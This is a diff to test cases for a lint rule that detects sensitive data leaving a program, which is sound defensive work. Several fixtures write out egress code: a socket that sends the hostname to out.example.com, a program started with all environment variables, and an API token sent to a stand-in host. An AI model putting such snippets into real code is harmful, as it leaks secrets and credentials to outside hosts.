@@ -19,6 +19,9 @@ tester.run('no-sensitive-egress', rule, {
     { name: 'an address that is a form', filename, code: "import * as Sentry from '@sentry/node'; Sentry.setUser({ email: 'not an address' })" },
     { name: 'an SDK that is handed nothing of anybody', filename, code: "import * as Sentry from '@sentry/node'; Sentry.setTag('plan', 'free')" },
     { name: 'a callback of a function that hands over no scope', filename, code: "import * as Sentry from '@sentry/node'; export const f = (user: { email: string }) => [Sentry].map((scope) => scope.other((inner) => inner.setTag('a', user.email)))" },
+    { name: 'more than is followed, where a parameter says where to', filename, code: `${tangled(3000)}export const f = (to: string) => fetch(to, ${body('a3000')});` },
+    { name: 'what a started program says, for what it was started with', filename, code: "import { start } from 'starts-programs'; export const f = async () => { const program = start({ env: process.env }); new WebSocket(await program.waitForAddress()); }" },
+    { name: 'an address that nobody knows, beside a name', filename, code: "import { at } from 'anywhere'; const kept = { email: at() }; export const f = (key: string) => fetch(at({ email: kept.email })[key]);" },
     { name: 'a credential that says who calls', filename, code: "fetch('https://quiet.example.com', { headers: { authorization: process.env.API_TOKEN } })" },
   ],
   invalid: [
@@ -56,7 +59,19 @@ tester.run('no-sensitive-egress', rule, {
     },
     {
       name: 'more than is followed', filename, code: `${tangled(3000)}fetch('https://quiet.example.com', ${body('a3000')})`,
-      errors: [{ messageId: 'partial', data: { api: 'fetch', via: '' }, line: 3002, column: 1, endLine: 3002, endColumn: 68 }],
+      errors: [{ messageId: 'partial', data: { api: 'fetch', via: '', others: '' }, line: 3002, column: 1, endLine: 3002, endColumn: 68 }],
+    },
+    {
+      name: 'one way to two ways to connect, once', filename, code: "import net from 'node:net'; import tls from 'node:tls'; import os from 'node:os'; export const f = (safe: boolean) => { let socket = net.connect(25, 'out.example.com'); if (safe) socket = tls.connect(25, 'out.example.com'); socket.write(os.hostname()); }",
+      errors: [{ messageId: 'undeclared', line: 1, column: 134, endLine: 1, endColumn: 168 }],
+    },
+    {
+      name: 'what a started program is asked', filename, code: "import { start } from 'starts-programs'; export const f = () => { const program = start({ env: process.env }); new WebSocket(program.address()); }",
+      errors: [{ messageId: 'undeclared', line: 1, column: 112, endLine: 1, endColumn: 144 }],
+    },
+    {
+      name: 'more than is followed, at several calls of a file, once', filename, code: `${tangled(3000)}${`fetch('https://quiet.example.com', ${body('a3000')});\n`.repeat(3)}`,
+      errors: [{ messageId: 'partial', data: { api: 'fetch', via: '', others: ', as do 2 more calls of this file' }, line: 3002, column: 1, endLine: 3002, endColumn: 68 }],
     },
   ],
 });
